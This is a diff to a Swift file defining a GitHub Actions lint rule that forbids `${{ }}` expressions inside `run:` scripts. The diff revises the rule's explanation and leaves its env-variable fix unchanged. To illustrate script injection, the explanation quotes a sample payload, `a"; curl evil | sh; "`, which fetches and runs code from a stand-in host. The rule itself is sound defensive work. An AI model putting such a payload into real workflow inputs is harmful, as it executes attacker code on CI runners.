@@ -8,7 +8,7 @@ struct NoExpressionsInRun: PolicyRule {
     let tags = ["security", "injection"]
     let explanation = RuleExplanation(
         what: "Every `run:` script: no expression segment, and no literal `${{` text.",
-        why: "Seed 000 §6.1 and §3.2 interpolated `${{ env.STACK_NAME }}` and `${{ github.event.inputs.* }}` straight into scripts. GitHub substitutes the value into the script's source before bash runs it, so a branch name, input or PR title such as `a\"; curl evil | sh; \"` becomes code (script injection, GitHub Security Lab's \"untrusted input\" advisory).",
+        why: "An expression such as `${{ github.event.inputs.environment }}` in a script is substituted into the script's source before bash runs it, so a branch name, input or PR title such as `a\"; curl evil | sh; \"` becomes code (script injection, GitHub Security Lab's \"untrusted input\" advisory).",
         fix: "Move each value to the step's `env:` (`STACK_NAME: ${{ steps.prepare.outputs.stack-name }}`) and read it quoted in the script: `\"$STACK_NAME\"`."
     )
 
